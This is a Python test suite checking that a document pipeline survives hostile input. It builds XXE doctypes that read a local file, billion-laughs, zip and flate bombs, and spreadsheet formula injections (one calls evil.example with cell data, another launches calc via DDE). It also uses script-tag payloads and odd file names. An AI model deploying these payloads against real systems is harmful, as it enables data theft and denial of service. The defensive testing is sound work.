"""Hostile and broken input: nothing crashes, nothing leaks, nothing is lost.

Every malicious or broken file is built here: PDFs byte by byte (objects, xref, content
streams), encrypted PDFs with reportlab, PowerPoint and Word packages with python-pptx and
python-docx and then edited part by part. What each test shows:

- broken files: each gets its own error type and a message naming the file and what to do,
  and a batch goes on past them;
- resource bombs: stopped by a count, size, time or memory limit, in parse_file itself where
  it can be (fast, little memory) and in `pipeline run`'s workers where it cannot;
- XML attacks: a DTD in any part of an Office package is refused, and even without that
  check no entity is resolved; no local file's content reaches any output;
- output safety: formulas neutralised in CSV and XLSX, markup escaped in HTML, output names
  kept inside the output folder; nothing in the package unpickles;
- crash safety: SIGKILL at many points never leaves a broken or half-written output, and the
  next run cleans up and completes the work.

Tests already elsewhere are not repeated: truncated files, zip bombs and missing parts in
test_parse_*.py, the model tampering tests in test_classify.py, one kill test, the timeout
with a patched worker and `output_name` on a few names in test_batch.py.
"""

from __future__ import annotations

import ast
import contextlib
import csv
import io
import json
import multiprocessing
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st
from pptx import Presentation

from pipeline import fileio
from pipeline.batch import LOCK_FILE, BatchOptions, Manifest, output_name, run_batch
from pipeline.emit import CSV_FIELDS
from pipeline.errors import (
    CorruptFileError,
    EncryptedFileError,
    PipelineError,
    ResourceLimitError,
    UsageError,
)
from pipeline.models import DocumentResult
from pipeline.parse import ooxml, parse_file

SECRET = "S3CRET-MARKER-7f3a9c"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

GOOD_MD = """# Peru – national workshop

## Next steps

- Validate the national roadmap on child labour with the social partners by 2023
- Convene the national steering committee
"""

# --------------------------------------------------------------------------- helpers


class _TooSlow(BaseException):
    """Raised by `time_limit`; a BaseException so library `except Exception` cannot eat it."""


@contextlib.contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    def fire(signum, frame):
        raise _TooSlow(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, fire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def stream(content: bytes, extra: bytes = b"", compress: bool = True) -> bytes:
    """A PDF stream object's body, Flate-compressed unless told otherwise."""
    data = zlib.compress(content, 9) if compress else content
    filt = b" /Filter /FlateDecode" if compress else b""
    return b"<< /Length %d%s %s >>\nstream\n" % (len(data), filt, extra) + data + b"\nendstream"


def pdf_file(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of `objects` (numbered from 1, the first is the catalog) with a correct xref."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
TEXT = b"BT /F1 11 Tf 72 700 Td (Convene the national steering committee) Tj ET"


def text_pdf(
    content: bytes = TEXT, pages: int = 1, forms: list[bytes] = (), count: int | None = None
) -> bytes:
    """`pages` pages sharing one content stream (object 4); Form XObjects are objects 5...

    The page resources name the first form /X. `count` overrides the page tree's /Count.
    """
    first_page = 5 + len(forms)
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    xobjects = b"/XObject << /X 5 0 R >>" if forms else b""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 3 0 R >> " + xobjects + b" >> >>"
    )
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages if count is None else count),
            FONT,
            stream(content),
            *forms,
            *[page] * pages,
        ]
    )


def form(content: bytes, resources: bytes) -> bytes:
    return stream(
        content,
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources " + resources,
    )


def fan_out_pdf(depth: int = 12, calls: int = 4) -> bytes:
    """Form k draws form k+1 `calls` times: calls**depth drawings from a 3 KB file."""
    forms = []
    for k in range(depth):
        if k == depth - 1:
            forms.append(form(b"BT /F1 1 Tf 1 1 Td (z) Tj ET", b"<< /Font << /F1 3 0 R >> >>"))
        else:
            forms.append(form(b"/X Do " * calls, b"<< /XObject << /X %d 0 R >> >>" % (6 + k)))
    return text_pdf(TEXT + b" /X Do", forms=forms)


def flate_bomb_pdf(gigabytes: float = 2.0) -> bytes:
    """One page whose content stream inflates to `gigabytes` of spaces (file: ~2 MB).

    The same 16 MB block is deflated once, after a full flush, and repeated: each copy is a
    self-contained deflate block, and the trailing Adler-32 is computed for the whole.
    """
    chunk = b" " * (1 << 24)
    copies = int(gigabytes * 64)
    deflate = zlib.compressobj(9)
    head = deflate.compress(TEXT + b"\n") + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush()[:-4]
    adler = zlib.adler32(TEXT + b"\n")
    for _ in range(copies):
        adler = zlib.adler32(chunk, adler)
    data = head + block * copies + tail + adler.to_bytes(4, "big")
    content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            content,
            FONT,
        ]
    )


def image_only_pdf() -> bytes:
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Length 1 >>\nstream\n\x80\nendstream"
    )
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            stream(b"q 400 0 0 600 100 100 cm /Im1 Do Q"),
            image,
        ]
    )


def shifted_xref(data: bytes) -> bytes:
    """Every xref offset 1,000 bytes off: the table parses, but points at nothing."""
    head, sep, tail = data.rpartition(b"\nxref\n")
    return head + sep + tail.replace(b"\n0000000", b"\n0000001")


def encrypted_pdf(user_password: str) -> bytes:
    """A one-page PDF encrypted by reportlab (RC4 128-bit), with or without a user password."""
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    encryption = pdfencrypt.StandardEncryption(
        user_password, ownerPassword="owner-only", canPrint=0, canModify=0, canCopy=0
    )
    page = canvas.Canvas(buffer, encrypt=encryption)
    page.setFont("Helvetica", 12)
    page.drawString(72, 700, "Next steps: convene the national steering committee on child labour.")
    page.showPage()
    page.save()
    return buffer.getvalue()


def pptx_bytes(text: str = "Deck title") -> bytes:
    prs = Presentation()
    prs.slides.add_slide(prs.slide_layouts[5]).shapes.title.text = text
    buffer = io.BytesIO()
    prs.save(buffer)
    return buffer.getvalue()


def docx_bytes(text: str = "Convene the national steering committee.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def edit_parts(data: bytes, changes: dict[str, object]) -> bytes:
    """Rewrite an OOXML package: each change is new bytes, a function of the old, or None."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        parts = {info.filename: zf.read(info) for info in zf.infolist()}
    for name, change in changes.items():
        if change is None:
            parts.pop(name, None)
        else:
            parts[name] = change(parts[name]) if callable(change) else change
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, part in parts.items():
            zf.writestr(name, part)
    return buffer.getvalue()


def with_doctype(doctype: bytes, reference: bytes = b""):
    """An edit putting `doctype` after the XML declaration and `reference` into the text."""

    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"?>", b"?>" + doctype, 1)
        for placeholder in (b"PLACEHOLDER",):
            xml = xml.replace(placeholder, b"Text " + reference)
        return xml

    return change


def xxe_doctype(secret: Path) -> bytes:
    return f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode()


def parameter_xxe_doctype(secret: Path) -> bytes:
    return f'<!DOCTYPE r [<!ENTITY % pe SYSTEM "file://{secret}"> %pe;]>'.encode()


LAUGHS = (
    b'<!DOCTYPE r [<!ENTITY l0 "ha">'
    + b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10))
    + b"]>"
)


def run_cli(*args: str, cwd: Path, timeout: float = 180) -> subprocess.CompletedProcess:
    """`python -m pipeline ...` in `cwd` (so no corrections file of the project applies)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "pipeline", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def manifest_of(out: Path) -> Manifest:
    return Manifest.model_validate_json((out / "manifest.json").read_text("utf-8"))


def records_by_name(manifest: Manifest) -> dict:
    return {Path(r.path).name: r for r in manifest.inputs}


# --------------------------------------------------------------------------- broken files


def test_broken_files_each_get_their_own_error_and_the_batch_goes_on(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    good_pdf = text_pdf()
    files = {
        "truncated.pdf": (good_pdf[: len(good_pdf) // 2], "failed", "corrupt"),
        "broken-xref.pdf": (shifted_xref(good_pdf), "processed", None),  # pdfium rebuilds it
        "zero.pdf": (b"", "failed", "empty_file"),
        "not-a-zip.pptx": (bytes(range(256)) * 4, "skipped", "unsupported_format"),
        "bad-zip.pptx": (b"PK\x03\x04" + bytes(300), "failed", "corrupt"),
        "plain-zip.pptx": (
            edit_parts(pptx_bytes(), {"[Content_Types].xml": None}),
            "skipped",
            "unsupported_format",
        ),
        "no-body.docx": (
            edit_parts(docx_bytes(), {"word/document.xml": None}),
            "failed",
            "corrupt",
        ),
        "scan.pdf": (image_only_pdf(), "failed", "image_only"),
        "locked.pdf": (encrypted_pdf("user-secret"), "failed", "encrypted"),
        "owner-only.pdf": (encrypted_pdf(""), "processed", None),
        "good.pdf": (good_pdf, "processed", None),
    }
    for name, (data, _, _) in files.items():
        (src / name).write_bytes(data)
    (src / "good.md").write_text(GOOD_MD, "utf-8")
    out = tmp_path / "out"
    done = run_cli("run", "in", "--out", "out", "--jobs", "2", "--timeout", "60", cwd=tmp_path)
    assert done.returncode == 2, done.stderr  # some files failed
    records = records_by_name(manifest_of(out))
    assert records["good.md"].status == "processed" and records["good.md"].items == 2
    for name, (_, status, code) in files.items():
        record = records[name]
        assert (record.status, record.error) == (status, code), (name, record.reason)
        if code is None:
            continue
        assert record.reason and record.hint, name
        # The CLI names the file, says what is wrong and what to do, one line, no traceback.
        if status == "failed":
            line = next(ln for ln in done.stderr.splitlines() if f"/{name}: " in ln)
            assert line == f"failed    in/{name}: {record.reason}. {record.hint}"
    assert "Traceback" not in done.stderr
    assert records["owner-only.pdf"].items == 1  # opens without a password: read normally


def _garbage_table(data: bytes) -> bytes:
    return re.sub(rb"xref\n0 \d+\n.*?trailer", b"xref\nJUNK\ntrailer", data, flags=re.S)


def _startxref_past_end(data: bytes) -> bytes:
    return re.sub(rb"startxref\n\d+", b"startxref\n99999999", data)


def _no_trailer(data: bytes) -> bytes:
    return data[: data.rindex(b"xref\n")] + b"%%EOF\n"


@pytest.mark.parametrize(
    ("damage", "expected"),
    [
        (_garbage_table, "recovered"),
        (_startxref_past_end, "recovered"),
        # pdfium rebuilds these two as well; with `--pdf-engine pdfplumber` alone they are
        # reported as corrupt (the fallback tries pdfium first).
        (shifted_xref, "recovered"),
        (_no_trailer, "recovered"),
    ],
)
def test_broken_xref_is_rebuilt_or_reported(tmp_path: Path, damage, expected: object) -> None:
    path = tmp_path / f"{damage.__name__.strip('_')}.pdf"
    path.write_bytes(damage(text_pdf()))
    if damage in (shifted_xref, _no_trailer):
        from pipeline.config import Settings
        from pipeline.parse import pdf

        with pytest.raises(CorruptFileError) as info:  # pdfplumber alone
            pdf.parse(path, path.read_bytes(), Settings())
        assert path.name in info.value.message and info.value.hint
    if expected == "recovered":  # the table is rebuilt by scanning for objects
        assert [b.text for b in parse_file(path).blocks] == [
            "Convene the national steering committee"
        ]
    else:
        with pytest.raises(expected) as info:
            parse_file(path)
        assert path.name in info.value.message and info.value.hint


def test_office_file_with_bytes_cut_from_its_middle_is_corrupt(tmp_path: Path) -> None:
    # Found by test_fuzz: the zip directory then points before the start of the file and
    # zipfile raises ValueError (negative seek), which escaped while sniffing the format.
    data = pptx_bytes()
    path = tmp_path / "cut.pptx"
    path.write_bytes(data[:100] + data[2100:])
    with pytest.raises(CorruptFileError, match="not a readable zip"):
        parse_file(path)


def test_encrypted_pdfs(tmp_path: Path) -> None:
    locked = tmp_path / "locked.pdf"
    locked.write_bytes(encrypted_pdf("user-secret"))
    with pytest.raises(EncryptedFileError, match="password-protected") as info:
        parse_file(locked)
    assert "locked.pdf" in info.value.message and "unprotected copy" in info.value.message
    # An owner password only restricts printing and copying: the PDF opens and is read.
    owner_only = tmp_path / "owner-only.pdf"
    owner_only.write_bytes(encrypted_pdf(""))
    assert "steering committee" in parse_file(owner_only).blocks[0].text
    # A security handler pdfminer does not know (certificates) is an encryption error too.
    pubsec = tmp_path / "certificate.pdf"
    pubsec.write_bytes(
        pdf_file(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"],
            trailer=b"/Encrypt << /Filter /Adobe.PubSec /V 4 /R 4 >> /ID [<00> <00>]",
        )
    )
    with pytest.raises(EncryptedFileError, match="not supported"):
        parse_file(pubsec)


# --------------------------------------------------------------------------- resource bombs


def test_two_million_characters_on_a_page_are_refused_early(tmp_path: Path) -> None:
    path = tmp_path / "chars.pdf"
    path.write_bytes(text_pdf(b"BT /F1 1 Tf 10 10 Td " + b"(x) Tj " * 2_000_000 + b"ET"))
    assert path.stat().st_size < 100_000
    started = time.monotonic()
    with time_limit(60), pytest.raises(ResourceLimitError, match="max_chars_per_page"):
        parse_file(path)
    # Stopped at the 200,000th character, not after building 2,000,000 objects (~50 s, 3 GB).
    assert time.monotonic() - started < 20


def test_form_xobject_fan_out_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "fan-out.pdf"
    path.write_bytes(fan_out_pdf(depth=12, calls=4))  # 4**11 = 4 million form calls
    started = time.monotonic()
    with time_limit(60), pytest.raises(ResourceLimitError, match="max_forms_per_page"):
        parse_file(path)
    assert time.monotonic() - started < 20
    # The other per-page count: paths, images and form calls.
    paths = tmp_path / "paths.pdf"
    paths.write_bytes(text_pdf(TEXT + b" 0 0 m 9 9 l S" * 2000))
    with pytest.raises(ResourceLimitError, match="max_objects_per_page"):
        parse_file(paths, {"max_objects_per_page": 1000})
    assert parse_file(paths).blocks  # within the default limit it is an ordinary page


LOOP_FORM = form(TEXT + b" /X Do", b"<< /Font << /F1 3 0 R >> /XObject << /X 5 0 R >> >>")
PING = form(TEXT + b" /Y Do", b"<< /Font << /F1 3 0 R >> /XObject << /Y 6 0 R >> >>")
PONG = form(b"/X Do", b"<< /XObject << /X 5 0 R >> >>")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("nested-q", lambda: text_pdf(b"q " * 100_000 + TEXT + b" Q" * 100_000)),
        ("nested-bt", lambda: text_pdf(b"BT " * 100_000 + TEXT + b" ET" * 100_000)),
        ("unbalanced-q", lambda: text_pdf(b"q " * 200_000 + TEXT)),
        ("form-draws-itself", lambda: text_pdf(TEXT + b" /X Do", forms=[LOOP_FORM])),
        ("forms-draw-each-other", lambda: text_pdf(b"/X Do", forms=[PING, PONG])),
        (
            "page-tree-cycle",
            lambda: pdf_file(
                [
                    b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>",
                    b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
                ]
            ),
        ),
        (
            "inherited-attributes-through-a-parent-cycle",  # no MediaBox: looked up the chain
            lambda: pdf_file(
                [
                    b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 4 0 R >>",
                    b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>",
                    b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
                    stream(TEXT),
                ]
            ),
        ),
        (
            "page-is-its-own-parent",
            lambda: pdf_file(
                [
                    b"<< /Type /Catalog /Pages 2 0 R >>",
                    b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                    b"<< /Type /Page /Parent 3 0 R /Resources 3 0 R /Contents 4 0 R >>",
                    stream(TEXT),
                ]
            ),
        ),
    ],
)
def test_nesting_and_cycles_end_quickly(tmp_path: Path, name: str, data) -> None:
    path = tmp_path / f"{name}.pdf"
    path.write_bytes(data())
    started = time.monotonic()
    with time_limit(60):
        try:
            doc = parse_file(path)
        except PipelineError as exc:
            assert path.name in exc.message
        else:
            assert all("Convene" in b.text for b in doc.blocks)
    assert time.monotonic() - started < 30


@pytest.mark.parametrize("count", [5000, 1])  # an honest /Count, and one that lies
def test_five_thousand_pages_are_refused_before_reading_them(tmp_path: Path, count: int) -> None:
    path = tmp_path / "pages.pdf"
    path.write_bytes(text_pdf(pages=5000, count=count))
    started = time.monotonic()
    with time_limit(60), pytest.raises(ResourceLimitError, match=r"5,000 pages.*max_pages"):
        parse_file(path)
    assert time.monotonic() - started < 10


def zip_bomb_pptx(megabytes: int = 300) -> bytes:
    """A valid deck plus one media part of zeros inflating to `megabytes` (file: ~300 KB)."""
    buffer = io.BytesIO(pptx_bytes())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as zf,
        zf.open("ppt/media/zeros.bin", "w", force_zip64=True) as part,
    ):
        for _ in range(megabytes):
            part.write(bytes(1 << 20))
    return buffer.getvalue()


def test_bombs_are_stopped_in_their_workers_and_the_rest_finish(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    bombs = {
        "chars.pdf": (
            text_pdf(b"BT /F1 1 Tf 10 10 Td " + b"(x) Tj " * 2_000_000 + b"ET"),
            "max_chars_per_page",
        ),
        "fan-out.pdf": (fan_out_pdf(), "max_forms_per_page"),
        "pages.pdf": (text_pdf(pages=5000), "max_pages"),
        "zip-bomb.pptx": (zip_bomb_pptx(), "max_unzipped_bytes"),
        # 2 GB of content stream: only the worker's memory limit stops this one.
        "flate-bomb.pdf": (flate_bomb_pdf(2.0), "memory"),
    }
    for name, (data, _) in bombs.items():
        (src / name).write_bytes(data)
    for n in range(3):
        (src / f"good{n}.md").write_text(GOOD_MD.replace("Peru", f"Peru {n}"), "utf-8")
    started = time.monotonic()
    done = run_cli(
        "run", "in", "--out", "out", "--jobs", "2", "--timeout", "60", "--memory-limit", "1536",
        cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert time.monotonic() - started < 120
    records = records_by_name(manifest_of(tmp_path / "out"))
    for n in range(3):
        assert records[f"good{n}.md"].status == "processed"
    for name, (_, reason) in bombs.items():
        record = records[name]
        assert (record.status, record.error) == ("failed", "limit_exceeded"), name
        assert reason in record.reason, (name, record.reason)
        assert record.hint
    assert "Traceback" not in done.stderr


def test_a_slow_document_is_stopped_by_the_timeout(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    # 1,500 pages of 5,000 characters: within every count, but minutes of work.
    line = b"(" + b"x" * 100 + b") Tj 0 -1 Td "
    (src / "slow.pdf").write_bytes(text_pdf(b"BT /F1 1 Tf 10 800 Td " + line * 50 + b"ET", 1500))
    (src / "good.md").write_text(GOOD_MD, "utf-8")
    done = run_cli("run", "in", "--out", "out", "--jobs", "1", "--timeout", "2", cwd=tmp_path)
    records = records_by_name(manifest_of(tmp_path / "out"))
    assert records["good.md"].status == "processed"
    assert records["slow.pdf"].error == "limit_exceeded"
    assert "longer than 2 s" in records["slow.pdf"].reason
    assert "--timeout" in records["slow.pdf"].hint and done.returncode == 2


# --------------------------------------------------------------------------- XML attacks


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, "utf-8")
    return path


def attacks(secret: Path) -> dict[str, tuple[bytes, bytes]]:
    return {
        "xxe": (xxe_doctype(secret), b"&xxe;"),
        "parameter-xxe": (parameter_xxe_doctype(secret), b""),
        "billion-laughs": (LAUGHS, b"&l9;"),
        # The DTD starts past the first chunks the prolog check reads.
        "padded-laughs": (b"<!-- " + b"pad " * 100_000 + b"-->" + LAUGHS, b"&l9;"),
    }


MAIN_PART = {"pptx": "ppt/slides/slide1.xml", "docx": "word/document.xml"}


def hostile_package(fmt: str, part: str, doctype: bytes, reference: bytes) -> bytes:
    data = pptx_bytes("PLACEHOLDER") if fmt == "pptx" else docx_bytes("PLACEHOLDER")
    return edit_parts(data, {part: with_doctype(doctype, reference)})


@pytest.mark.parametrize("fmt", ["pptx", "docx"])
@pytest.mark.parametrize("attack", ["xxe", "parameter-xxe", "billion-laughs", "padded-laughs"])
def test_a_dtd_in_the_main_part_is_refused(
    tmp_path: Path, secret: Path, fmt: str, attack: str
) -> None:
    doctype, reference = attacks(secret)[attack]
    path = tmp_path / f"{attack}.{fmt}"
    path.write_bytes(hostile_package(fmt, MAIN_PART[fmt], doctype, reference))
    with time_limit(10), pytest.raises(CorruptFileError, match="DTD") as info:
        parse_file(path)
    assert MAIN_PART[fmt] in info.value.message and path.name in info.value.message
    assert SECRET not in info.value.message


@pytest.mark.parametrize("fmt", ["pptx", "docx"])
@pytest.mark.parametrize("part", ["[Content_Types].xml", "_rels/.rels", "docProps/core.xml"])
def test_a_dtd_in_any_other_part_is_refused(
    tmp_path: Path, secret: Path, fmt: str, part: str
) -> None:
    path = tmp_path / f"other.{fmt}"
    path.write_bytes(hostile_package(fmt, part, xxe_doctype(secret), b""))
    with pytest.raises(CorruptFileError, match="DTD") as info:
        parse_file(path)
    assert part in info.value.message


def test_a_dtd_in_utf16_is_refused_and_an_svg_picture_is_not(tmp_path: Path) -> None:
    utf16 = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    ).encode("utf-16")
    path = tmp_path / "utf16.docx"
    path.write_bytes(edit_parts(docx_bytes(), {"word/_rels/document.xml.rels": utf16}))
    with pytest.raises(CorruptFileError, match="DTD"):
        parse_file(path)
    # An SVG picture may carry a DOCTYPE (old Illustrator exports do); it is never parsed.
    svg = (
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'
    )
    path = tmp_path / "picture.pptx"
    path.write_bytes(edit_parts(pptx_bytes("Deck with a picture"), {"ppt/media/image1.svg": svg}))
    assert parse_file(path).blocks[0].text == "Deck with a picture"


@pytest.mark.parametrize("fmt", ["pptx", "docx"])
def test_without_the_dtd_check_entities_are_still_not_resolved(
    tmp_path: Path, secret: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Defence in depth: python-pptx / python-docx parse with resolve_entities=False and
    libxml2 caps entity amplification, so the attacks fail even past `_refuse_dtds`."""
    monkeypatch.setattr(ooxml, "_refuse_dtds", lambda *args: None)
    for attack, (doctype, reference) in attacks(secret).items():
        path = tmp_path / f"{attack}.{fmt}"
        path.write_bytes(hostile_package(fmt, MAIN_PART[fmt], doctype, reference))
        with time_limit(10):
            try:
                doc = parse_file(path)
            except PipelineError as exc:
                assert SECRET not in exc.message
            else:
                assert all(SECRET not in b.text for b in doc.blocks), attack


def test_no_local_file_reaches_any_output_of_a_run(tmp_path: Path, secret: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    for fmt, part in MAIN_PART.items():
        for attack, (doctype, reference) in attacks(secret).items():
            (src / f"{attack}.{fmt}").write_bytes(hostile_package(fmt, part, doctype, reference))
    (src / "good.md").write_text(GOOD_MD, "utf-8")
    done = run_cli("run", "in", "--out", "out", "--jobs", "2", cwd=tmp_path)
    assert SECRET not in done.stdout + done.stderr
    out = tmp_path / "out"
    written = [p for p in out.rglob("*") if p.is_file()]
    assert len(written) >= 6
    for path in written:
        assert SECRET.encode() not in path.read_bytes(), path
    records = records_by_name(manifest_of(out))
    assert records["good.md"].status == "processed"
    hostile = [r for name, r in records.items() if name != "good.md"]
    assert len(hostile) == 2 * len(attacks(secret))
    assert all(r.status == "failed" and "DTD" in r.reason for r in hostile)


# --------------------------------------------------------------------------- output safety

HOSTILE_MD = """# Nepal – national workshop

## Next steps

- =HYPERLINK("http://evil.example/?d="&A1,"Strengthen labour inspection by 2023")
- +cmd|' /C calc'!A0 Ratify the Forced Labour Protocol
- -1+1 Convene the national steering committee
- @SUM(1+1) Publish the child labour survey before June 2022
- <script>alert("x")</script> Validate the national roadmap with the social partners
- <img src=x onerror=alert(1)> Train labour inspectors on forced labour indicators
"""


def test_formulas_and_markup_are_neutralised_in_every_output(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "hostile.md").write_text(HOSTILE_MD, "utf-8")
    (src / "=HYPERLINK(1).md").write_text(GOOD_MD, "utf-8")  # a hostile file name too
    out = tmp_path / "out"
    done = run_cli("run", ".", "--out", str(out), "--jobs", "1", cwd=src)  # relative sources
    assert done.returncode == 0, done.stderr
    rows = [json.loads(line) for line in (out / "items.jsonl").read_text("utf-8").splitlines()]
    texts = {r["text"] for r in rows}
    assert any(t.startswith("=HYPERLINK") for t in texts)  # JSON keeps the exact text
    assert "=HYPERLINK(1).md" in {r["source"] for r in rows}

    with (out / "items.csv").open(encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[0] == CSV_FIELDS
    cells = [cell for row in table[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=HYPERLINK(1).md" in cells
    for start in ("'=HYPERLINK", "'+cmd", "'-1+1", "'@SUM"):
        assert any(c.startswith(start) for c in cells), start

    review = pytest.importorskip("pipeline.review")
    book = tmp_path / "review.xlsx"
    review.export_workbook(out, book)
    from openpyxl import load_workbook

    values = [
        cell
        for sheet in load_workbook(book).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    hostile = ("=HYPERLINK", "+cmd", "-1+1", "@SUM")
    assert not [c.value for c in values if c.value.startswith(hostile)]
    assert not [c.value for c in values if c.data_type == "f" and "HYPERLINK" in c.value]

    report = pytest.importorskip("pipeline.report")
    page = Path(report.write_report(out)).read_text("utf-8")
    for markup in ('<script>alert("x")', "<img src=x", "onerror=alert(1)>"):
        assert markup not in page


NAME_PART = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="/\x00"), min_size=1
).filter(lambda s: s not in (".", ".."))


@settings(max_examples=200, derandomize=True, database=None, deadline=None)
@given(parts=st.lists(st.one_of(NAME_PART, st.sampled_from(["..", ".", "~"])), min_size=1))
def test_output_names_are_plain_names_inside_the_folder(parts: list[str]) -> None:
    root = Path("/srv/reports")
    name = output_name(root, root.joinpath(*parts))
    # Letters and digits of any script, '.', '_', '-'; never a leading '.', '_' or '-'.
    assert re.fullmatch(r"[^\W_][\w.-]*\.[0-9a-f]{8}\.json", name)
    assert len(name.encode()) <= 255
    folder = Path("/srv/out/documents")
    assert (folder / name).resolve().parent == folder


def test_odd_input_names_stay_inside_the_output_folder(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    names = [
        "-rf --force.md",
        "<script>alert(1)<%2Fscript>.md",
        "new\nline.md",
        "résumé ☃ 報告.md",
        "back\\slash..\\..\\x.md",
        "a" * 240 + ".md",
        " leading space.md",
        os.fsdecode(b"r\xe9sum\xe9 latin-1.md"),  # not UTF-8: reaches Python as surrogates
    ]
    for n, name in enumerate(names):
        (src / name).write_text(GOOD_MD.replace("Peru", f"Peru {n}"), "utf-8")
    before = {p for p in tmp_path.rglob("*")}
    out = tmp_path / "out"
    done = run_cli("run", "in", "--out", "out", "--jobs", "2", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    created = {p for p in tmp_path.rglob("*")} - before
    assert all(p == out or out in p.parents for p in created)
    documents = sorted((out / "documents").iterdir())
    assert len(documents) == len(names)
    for path in documents:
        assert re.fullmatch(r"[^\W_][\w.-]*\.json", path.name), path.name
        DocumentResult.model_validate_json(path.read_text("utf-8"))
    assert any(p.name.startswith("résumé___報告.md.") for p in documents)  # letters kept
    sources = {json.loads(line)["source"] for line in (out / "items.jsonl").open(encoding="utf-8")}
    assert "in/r\ufffdsum\ufffd latin-1.md" in sources  # undecodable bytes shown as U+FFFD
    _check_outputs(out)


def test_nothing_in_the_package_unpickles() -> None:
    """Models and caches are JSON and NumPy arrays read with allow_pickle=False; no module
    may import a pickle-based loader or turn pickling on (skops only with a trusted list)."""
